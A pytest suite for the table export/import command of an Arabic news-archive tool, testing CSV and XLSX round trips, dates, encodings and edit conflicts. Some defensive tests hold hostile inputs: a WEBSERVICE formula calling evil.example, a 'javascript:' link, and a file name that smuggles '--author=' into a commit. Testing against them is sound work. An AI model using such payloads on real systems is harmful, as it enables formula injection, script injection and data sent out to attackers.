"""`warraq table`: out to a spreadsheet and back, from outside; and its laws, for any archive."""

import csv
import json
import re
import tempfile
from collections.abc import Callable, Iterable
from io import BytesIO, StringIO
from pathlib import Path
from typing import NamedTuple

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from tests.commands.archive import article, authority, started
from tests.commands.conftest import Run, tree
from tests.commands.repository import committed, git, in_repository, last

from warraq.base.problems import WarraqError
from warraq.commands.edit import How, edit
from warraq.commands.table import export, exported, import_file
from warraq.content.frontmatter import article_text
from warraq.editing.field_edits import FieldEdit
from warraq.editing.table_cells import guarded, joined, parted, unguarded
from warraq.model import Article, Credit

FIRST, SECOND, THIRD = "aaaa01", "bbbb02", "0000123456789012"
Rows = list[list[str]]
PLAN = How(dry_run=True)


@pytest.fixture
def site(tmp_path: Path) -> Path:
    return in_repository(archive(tmp_path / "site"))


def archive(folder: Path) -> Path:
    started(folder, "lang: ar\n")
    article(folder, FIRST, "topics: [syria]  # أول", "date: 2025-10-12", "mine: 1", body="زلزال.")
    article(folder, SECOND, "date: 2025-12-25", "people: [samir]", body="زلزال.")
    article(folder, THIRD, "source: النهار", title="=1+1", body="زلزال.")
    authority(folder, "topics", "syria", name="سوريا")
    authority(folder, "topics", "quakes", name="زلازل")
    authority(folder, "people", "samir", name="سمير")
    return folder


def text(site: Path, ident: str) -> str:
    return (site / "content" / "articles" / ident[:2] / f"{ident}.md").read_text("utf-8")


def rows_of(file: Path) -> Rows:
    return list(csv.reader(StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))


def written(file: Path, rows: Rows, encoding: str = "utf-8-sig", delimiter: str = ",") -> Path:
    made = StringIO(newline="")
    csv.writer(made, delimiter=delimiter).writerows(rows)
    file.write_bytes(made.getvalue().encode(encoding, "replace"))
    return file


class Table(NamedTuple):
    """A CSV file that was exported, to edit: rows by id, columns by the names that stand there."""

    site: Path
    file: Path

    def edited(self, change: Callable[[Rows], object], **how: str) -> "Table":
        rows = rows_of(self.file)
        change(rows)
        written(self.file, rows, **how)
        return self

    def set(self, ident: str, head: str, value: str) -> "Table":
        return self.edited(lambda rows: _set(rows, ident, head, value))

    def problems(self) -> list[tuple[str, str]]:
        """Import it; return code and place of what is said."""
        done = import_file(self.site, self.file, How())
        return [(one.code, one.path) for one in done.problems]


def _set(rows: Rows, ident: str, head: str, value: str) -> None:
    for row in rows[1:]:
        if unguarded(row[0]) == ident:
            row[rows[0].index(head)] = value


@pytest.fixture
def table(site: Path, tmp_path: Path) -> Table:
    file = tmp_path / "table.csv"
    export(site, "زلزال", file, language="en")
    return Table(site, file)


def test_a_table_goes_out_and_what_changed_in_it_comes_back(site: Path, run: Run) -> None:
    file = site.parent / "مواد.csv"
    said = run(site, "table", "export", "زلزال", "--to", file, LANG="ar_SY.UTF-8")
    assert (said.returncode, said.stdout) == (0, f"3 مواد في {file}\n")
    rows = rows_of(file)
    assert rows[0][:3] == ["المعرّف", "العنوان", "التاريخ"]
    _set(rows, FIRST, "العنوان", "عنوان جديد")
    _set(rows, FIRST, "المواضيع", "syria | زلازل")
    _set(rows, SECOND, "الأشخاص", "")
    written(file, rows)

    dry = run(site, "table", "import", file, "--dry-run")
    assert ("+title: عنوان جديد" in dry.stdout, last(site)) == (True, "بداية")
    assert run(site, "table", "import", file).returncode == 0

    assert "title: عنوان جديد" in text(site, FIRST)
    assert "topics: [syria, quakes]  # أول" in text(site, FIRST)
    assert "mine: 1" in text(site, FIRST)
    assert "samir" not in text(site, SECOND)
    assert last(site) == "مادتان: تعديلات من الجدول «مواد.csv»"
    assert git(site, "status", "--short") == ""
    assert run(site, "undo").returncode == 0
    assert "title: عنوان جديد" not in text(site, FIRST)


def test_a_workbook_does_the_same(site: Path, run: Run) -> None:
    file = site.parent / "table.xlsx"
    fields = "title،date,topics"
    assert run(site, "table", "export", "زلزال", "--to", file, "--fields", fields).returncode == 0
    book = load_workbook(file)
    sheet = book.worksheets[0]
    row = next(row for row in sheet.iter_rows() if row[0].value == FIRST)
    assert [cell.value for cell in row][1:4] == [f"خبر {FIRST}", "2025-10-12", "syria"]
    row[1].value = "عنوان من مصنف"
    book.save(file)

    said = json.loads(run(site, "table", "import", file, "--format", "json").stdout)

    assert said["files"] == [f"content/articles/aa/{FIRST}.md"]
    assert "title: عنوان من مصنف" in text(site, FIRST)


def test_an_empty_table_is_not_written_and_one_with_work_in_it_not_overwritten(
    site: Path, run: Run, tmp_path: Path
) -> None:
    said = run(site, "table", "export", "كلمةليستفيالأرشيف", "--to", tmp_path / "a.csv")
    assert (said.returncode, "found nothing" in said.stdout) == (0, True)
    assert not (tmp_path / "a.csv").exists()
    (tmp_path / "b.csv").write_text("عملي", "utf-8")

    said = run(site, "table", "export", "زلزال", "--to", tmp_path / "b.csv")

    assert (said.returncode, (tmp_path / "b.csv").read_text("utf-8")) == (2, "عملي")


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("export", "زلزال", "--to", "a.ods"), "table-suffix"),
        (("export", "زلزال", "--to", "a.csv", "--fields", "title,nothing"), "table-field"),
        (("export", "nofield:x", "--to", "a.csv"), "query-field"),
        (("import", "absent.csv"), "table-unreadable"),
        (("import", "site.yaml"), "table-no-table"),
    ],
)
def test_what_cannot_be_done_is_said(
    site: Path, run: Run, monkeypatch: pytest.MonkeyPatch, words: tuple[str, ...], code: str
) -> None:
    monkeypatch.chdir(site)
    said = run(site, "table", *words)

    assert (said.returncode, f"[{code}]" in said.stdout) == (2, True)
    assert "Traceback" not in said.stderr


def test_a_workbook_without_the_extra_names_it(site: Path, tmp_path: Path, run: Run) -> None:
    (tmp_path / "hidden").mkdir()
    (tmp_path / "hidden" / "openpyxl.py").write_text("raise ImportError\n")
    file = tmp_path / "t.xlsx"
    said = run(
        site,
        "table",
        "export",
        "زلزال",
        "--to",
        file,
        PYTHONPATH=f"{tmp_path / 'hidden'}:generator",
    )

    assert (said.returncode, "warraq[table]" in said.stdout) == (2, True)
    assert not file.exists()


def test_only_the_cells_that_were_changed_are_applied(table: Table) -> None:
    article(table.site, FIRST, "topics: [quakes]", title="غُيّر بعد التصدير", body="زلزال.")
    committed(table.site)
    table.set(FIRST, "section", "محليات")

    assert table.problems() == []
    assert "section: محليات" in text(table.site, FIRST)
    assert "topics: [quakes]" in text(table.site, FIRST)


def test_a_cell_that_changed_on_both_sides_is_named_and_left(table: Table) -> None:
    article(table.site, FIRST, title="في الملف", body="زلزال.")
    committed(table.site)
    table.set(FIRST, "headline", "في الجدول").set(SECOND, "headline", "يمر")

    assert [code for code, _ in table.problems()] == ["table-conflict"]
    assert "title: في الملف" in text(table.site, FIRST)
    assert "title: يمر" in text(table.site, SECOND)


def test_rows_and_columns_may_be_moved_and_deleted(table: Table) -> None:
    table.set(SECOND, "section", "محليات")
    rows = rows_of(table.file)
    at = [rows[0].index(head) for head in ("for warraq, leave as it is", "section", "id")]
    written(table.file, [[row[i] for i in at] for row in [rows[0], *rows[:1:-1]]])

    assert table.problems() == []
    assert "section: محليات" in text(table.site, SECOND)
    assert text(table.site, FIRST).count("title:") == 1


def test_columns_and_rows_of_the_editors_own_do_no_harm(table: Table) -> None:
    def grown(rows: Rows) -> None:
        for number, row in enumerate(rows):
            row.extend(("راجع", "فلان", "") if number else ("ملاحظاتي", "holder", ""))
        rows.append([])

    assert table.edited(grown).problems() == [
        ("table-columns", "table.csv"),
        ("table-unexported", "table.csv"),
    ]


def test_rows_that_are_of_no_article_are_refused_one_by_one(table: Table) -> None:
    def mixed_up(rows: Rows) -> None:
        _set(rows, SECOND, "headline", "لا يُكتب")
        stamp = rows[0].index("for warraq, leave as it is")
        second = next(row for row in rows if row[0] == SECOND)
        rows.append(list(second))
        rows.append(["", "عنوان", *second[2:]])
        rows.append(["gone01", *second[1:stamp], second[stamp].replace(SECOND, "gone01")])
        rows.append(["moved1", *second[1:]])
        _set(rows, FIRST, "headline", "يُكتب")

    codes = [code for code, _ in table.edited(mixed_up).problems()]

    assert sorted(codes) == sorted(
        ["table-id-twice"] * 2 + ["table-id-missing", "table-id-unknown", "table-stamp"]
    )
    assert "title: يُكتب" in text(table.site, FIRST)
    assert "لا يُكتب" not in text(table.site, SECOND)


def test_two_columns_of_one_field_are_refused(table: Table) -> None:
    table.edited(lambda rows: rows[0].append(rows[0][1]))

    with pytest.raises(WarraqError) as fault:
        table.problems()
    assert [problem.code for problem in fault.value.problems] == ["table-twice"]


def test_a_spreadsheet_that_rewrote_all_dates_changed_nothing(table: Table) -> None:
    for form in ("{2}/{1}/{0}", "{1}/{2}/{0}", "{2}.{1}.{0}", "{0}/{1}/{2}"):

        def rewritten(rows: Rows, form: str = form) -> None:
            for ident, day in ((FIRST, "2025-10-12"), (SECOND, "2025-12-25")):
                _set(rows, ident, "date", form.format(*day.split("-")))

        table.edited(rewritten)
        assert (table.problems(), git(table.site, "status", "--short")) == ([], "")


@pytest.mark.parametrize(
    ("other", "typed", "day"),
    [
        ("2025-12-25", "2024-03-05", "2024-03-05"),
        ("2025-12-25", "25/03/2024", "2024-03-25"),
        ("2025-12-25", "05/03/2024", ""),
        ("25/12/2025", "05/03/2024", "2024-03-05"),
        ("12/25/2025", "05/03/2024", "2024-05-03"),
        ("25/12/2025", "03/25/2024", ""),
        ("25/12/2025", "٠٥/٠٣/٢٠٢٤", "2024-03-05"),
        ("2025-12-25", "25/03/24", ""),
        ("2025-12-25", "45000", ""),
    ],
)
def test_a_date_is_read_as_what_it_is_or_refused(
    table: Table, other: str, typed: str, day: str
) -> None:
    table.set(SECOND, "date", other).set(FIRST, "date", typed)
    row = next(n for n, row in enumerate(rows_of(table.file), 1) if row[0] == FIRST)

    problems = table.problems()

    assert problems == ([] if day else [("table-day", f"table.csv:C{row}")])
    assert f"date: {day or '2025-10-12'}" in text(table.site, FIRST)


@pytest.mark.parametrize(
    ("head", "value", "code"),
    [
        ("date", "أمس", "date-invalid"),
        ("headline", "", "table-empty"),
        ("people", "nobody-here", "edit-file-missing"),
        ("draft", "ربما", "field-invalid"),
        ("link to the source", "javascript:alert(1)", "field-invalid"),
    ],
)
def test_a_value_that_does_not_fit_is_named_with_its_cell(
    table: Table, head: str, value: str, code: str
) -> None:
    before = tree(table.site / "content")

    ((found, place),) = table.set(FIRST, head, value).problems()

    assert (found, place.partition(":")[0]) == (code, "table.csv")
    assert tree(table.site / "content") == before


def test_an_old_encoding_loses_no_letter_of_an_article(table: Table) -> None:
    article(table.site, FIRST, title="پرس ✓ خبر", body="زلزال.")
    committed(table.site)
    table.file.unlink()
    export(table.site, "زلزال", table.file, language="en")
    table.edited(lambda rows: _set(rows, SECOND, "headline", "خبر عربي"), encoding="cp1256")

    assert table.problems() == []
    assert f"title: پرس ✓ خبر {FIRST}" in text(table.site, FIRST)
    assert "title: خبر عربي" in text(table.site, SECOND)


@pytest.mark.parametrize("encoding", ["cp1256", "cp1252", "ascii"])
def test_letters_that_were_lost_when_a_table_was_saved_are_not_lost_here(
    table: Table, encoding: str
) -> None:
    article(table.site, FIRST, "section: «é»", title="پرس ✓ 😀 خبر", body="زلزال.")
    committed(table.site)
    table.file.unlink()
    export(table.site, "زلزال", table.file, language="en")
    before = tree(table.site / "content")
    rows = rows_of(table.file)
    for row in rows:
        row[:] = [cell.replace("😀", "??") for cell in row]  # a letter of two halves
    written(table.file, rows, encoding)
    assert (table.problems(), tree(table.site / "content")) == ([], before)
    _set(rows, FIRST, "headline", "پرس ? آخر")
    written(table.file, rows, encoding)
    assert [code for code, _ in table.problems()] == ["table-letters"]
    _set(rows, FIRST, "headline", f"پرس ✓ ?? خبر {FIRST}")
    _set(rows, SECOND, "headline", "English")
    written(table.file, rows, encoding)

    assert table.problems() == []
    assert "title: English" in text(table.site, SECOND)
    assert "😀" in text(table.site, FIRST)


def test_formulas_are_not_run_on_either_side(table: Table) -> None:
    assert [row[1][:5] for row in rows_of(table.file) if "1+1" in row[1]] == ["'=1+1"]
    file = table.file.with_suffix(".xlsx")
    export(table.site, "زلزال", file, language="en")
    book = load_workbook(file)
    row = next(row for row in book.worksheets[0].iter_rows() if row[0].value == FIRST)
    row[1].value = '=WEBSERVICE("http://evil.example/")'
    book.save(file)

    done = import_file(table.site, file, PLAN)

    assert [(one.code, one.path.partition(":")[2][0]) for one in done.problems] == [
        ("table-cell", "B")
    ]
    assert done.planned.changes == ()


def test_names_of_a_table_do_no_harm_in_a_commit(table: Table) -> None:
    odd = table.file.rename(table.file.with_name("أ\u202eب\n--author=x.csv"))
    Table(table.site, odd).set(FIRST, "section", "محليات").problems()

    assert "\u202e" not in last(table.site)
    assert last(table.site, "%an") == "هدى"


# The laws, for archives of any texts.

WORDS = st.text(
    st.sampled_from("اب =+-@'\"|\\;,01e٠/:.#_x{}[]&<>✓\N{RIGHT-TO-LEFT MARK}"), min_size=1
).map(lambda one: " ".join(one.split()))
TITLES = WORDS.filter(bool) | st.sampled_from(
    ["=1+1", "'نص", "00123", "12e45678", "TRUE", "Oct-25", "1/2", "_x0041_", "12/10/2025"]
)
NAMES = st.sampled_from(["syria", "quakes", "بلا ملف", "a|b", "c\\", "=x", "'ق"])
IDS = st.from_regex(r"\A[0-9e]{6,16}\Z|\A[a-z0-9]{6}\Z")
DAYS = st.dates().map(str) | st.just("")
VALUES: dict[str, st.SearchStrategy[str]] = {
    "title": TITLES,
    "date": DAYS,
    "basis": TITLES | st.just(""),
    "outlet": st.sampled_from(["nahar", "جريدة ما", ""]),
    "section": TITLES | st.just(""),
    "description": TITLES | st.just(""),
    "draft": st.sampled_from(["true", ""]),
    "topic": st.lists(NAMES, unique=True).map(joined),
}
FEW = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@st.composite
def archives(draw: st.DrawFn) -> list[Article]:
    """Return articles of odd texts, with ids that spreadsheets take for numbers too."""
    idents = draw(
        st.lists(
            st.from_regex(r"\A[0-9e]{6,16}\Z|\A[a-z0-9]{6}\Z"), min_size=1, max_size=4, unique=True
        )
    )
    return [
        Article(
            ident,
            draw(TITLES),
            body="نص",
            topics=tuple(draw(st.lists(NAMES, unique=True))),
            section=draw(TITLES | st.just("")),
            source=draw(st.none() | st.just(Credit("النهار", "nahar"))),
        )
        for ident in idents
    ]


def made(folder: Path, articles: Iterable[Article]) -> Path:
    """Write an archive with the files that its names mean."""
    started(folder, "lang: ar\n")
    for one in articles:
        file = folder / "content/articles" / one.id[:2] / f"{one.id}.md"
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(article_text(one), "utf-8")
    for kind, key in (("topics", "syria"), ("topics", "quakes"), ("outlets", "nahar")):
        authority(folder, kind, key, name=f"اسم {key}")
    return folder


def typed(content: bytes, edits: dict[tuple[str, str], str], suffix: str) -> bytes:
    """Return a table in which an editor typed what `edits` hold, by id and head."""
    if suffix == ".xlsx":
        book = load_workbook(BytesIO(content))
        sheet = book.worksheets[0]
        heads = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            for (ident, head), value in edits.items():
                if row[0].value == ident:
                    cell = row[heads.index(head)]
                    cell.value = re.sub("_(?=x...._)", "_x005F_", value) or None  # as XLSX has it
                    cell.data_type = "s" if value else "n"  # the cells are formatted as text
        file = BytesIO()
        book.save(file)
        return file.getvalue()
    rows = list(csv.reader(StringIO(content.decode("utf-8-sig"), newline="")))
    for (ident, head), value in edits.items():
        _set(rows, ident, head, guarded(value, is_date=head == "date"))
    text = StringIO(newline="")
    csv.writer(text, delimiter=";").writerows(rows)
    return text.getvalue().encode("utf-16")


LABELS = dict(zip(VALUES, ["headline", "date", "basis of the date", "source", "section",
                           "description", "draft", "topics"], strict=True))  # fmt: skip


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_that_nobody_edits_changes_nothing(suffix: str) -> None:
    @FEW
    @given(archives())
    def law(articles: list[Article]) -> None:
        with tempfile.TemporaryDirectory() as folder:
            site = made(Path(folder) / "site", articles)
            table = exported(site, {one.id for one in articles}, suffix, language="en")
            file = Path(folder) / f"t{suffix}"
            for content in (table.content, typed(table.content, {}, suffix)):
                file.write_bytes(content)
                done = import_file(site, file, PLAN)
                assert (done.planned.changes, done.problems) == ((), ())
                assert done.found == len(articles)

    law()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_edited_cells_are_the_edits_of_their_fields(suffix: str) -> None:
    @FEW
    @given(archives(), st.data())
    def law(articles: list[Article], data: st.DataObject) -> None:
        edits = {one.id: data.draw(st.fixed_dictionaries({}, optional=VALUES)) for one in articles}
        with tempfile.TemporaryDirectory() as folder:
            one, two = (made(Path(folder) / name, articles) for name in ("one", "two"))
            table = exported(one, {one.id for one in articles}, suffix, language="en")
            cells = {
                (ident, LABELS[field]): _in_order(articles, ident, field, value)
                for ident, changed in edits.items()
                for field, value in changed.items()
            }
            file = Path(folder) / f"t{suffix}"
            file.write_bytes(typed(table.content, cells, suffix))
            assert import_file(one, file, How(record=False)).problems == ()

            for article in articles:
                wanted = [
                    wish
                    for field, value in edits[article.id].items()
                    for wish in _wished(article, field, value)
                ]
                edit(two, {article.id}, wanted, How(record=False))
            assert tree(one / "content") == tree(two / "content")

    law()


def _in_order(articles: Iterable[Article], ident: str, field: str, value: str) -> str:
    """Return a list as edits leave it: what stays first."""
    if field != "topic":
        return value
    held = next(one.topics for one in articles if one.id == ident)
    new = parted(value)
    return joined([*(w for w in held if w in new), *(w for w in new if w not in held)])


def _wished(article: Article, field: str, value: str) -> list[FieldEdit]:
    """Return the edits by which the command line does what an editor typed into a cell."""
    if field == "topic":
        new = parted(value)
        gone = [FieldEdit("remove", "topic", w) for w in article.topics if w not in new]
        return gone + [FieldEdit("add", "topic", w) for w in new if w not in article.topics]
    held = {"title": article.title, "section": article.section}
    held["outlet"] = article.source.outlet if article.source else ""
    if value == held.get(field, ""):
        return []
    return [FieldEdit("set", field, value) if value else FieldEdit("unset", field)]
